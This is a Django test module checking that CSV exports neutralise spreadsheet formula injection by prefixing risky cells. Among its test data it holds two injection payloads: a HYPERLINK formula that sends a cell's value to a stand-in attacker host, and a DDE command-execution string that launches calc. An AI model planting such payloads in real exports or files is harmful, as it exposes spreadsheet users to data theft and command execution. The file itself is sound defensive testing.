"""CSV injection: every export goes through ``scaling_ops.views_common.csv_response``, which
turns a cell a spreadsheet would run as a formula into text; numbers stay numbers."""

import csv
import io
from datetime import date

import pytest
from django.urls import reverse

from learning.services import improvement_action_create
from pathways.models import ExceptionItem
from pathways.services.exceptions import exception_report_compute
from scaling_ops import tenancy
from scaling_ops.views_common import csv_cell
from tests.pathways.exception_helpers import DAY, build_version, overdue_case

PARTNER_REF = '=HYPERLINK("http://evil.example/?"&A1,"open")'
STAFF_NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_is_prefixed(start):
    assert csv_cell(f"{start}1+2") == f"'{start}1+2"


@pytest.mark.parametrize("value", ["north", "", "C-1001", "a=b", 3, -3.5, 0.0, None])
def test_other_cells_and_numbers_are_kept(value):
    assert csv_cell(value) == value


def test_exception_csv_neutralises_a_partner_case_ref_and_a_staff_note(personas):
    with tenancy.scope(personas.org):
        overdue_case(build_version(), personas.north, PARTNER_REF)
        exception_report_compute(organization=personas.org, date=DAY)
        ExceptionItem.objects.update(note=STAFF_NOTE)
    response = personas.client(personas.supervisor).get(
        reverse("exception_queue", kwargs={"org": personas.org.slug}) + "?format=csv"
    )
    header, *rows = rows_of(response)
    row = dict(zip(header, rows[0], strict=True))
    assert row["Case"] == "'" + PARTNER_REF
    assert row["Note"] == "'" + STAFF_NOTE
    assert row["Age (days since due)"].lstrip("-").isdigit()


def test_learning_csv_neutralises_staff_text(personas):
    with tenancy.scope(personas.org):
        improvement_action_create(
            title="-2+3 reorder the intake script",
            owner=personas.lead,
            deadline=date(2026, 12, 1),
            by=personas.lead,
        )
    response = personas.client(personas.lead).get(
        reverse("learning_action_list", kwargs={"org": personas.org.slug}) + "?format=csv"
    )
    header, *rows = rows_of(response)
    assert dict(zip(header, rows[0], strict=True))["Title"] == "'-2+3 reorder the intake script"


def test_pathway_versions_csv_goes_through_the_helper(personas):
    with tenancy.scope(personas.org):
        version = build_version()
        version.rationale = "+1 the escalation window"
        version.save(update_fields=["rationale"])
    response = personas.client(personas.admin).get(
        reverse("pathway_list", kwargs={"org": personas.org.slug}) + "?format=csv"
    )
    header, *rows = rows_of(response)
    assert dict(zip(header, rows[0], strict=True))["Rationale"] == "'+1 the escalation window"
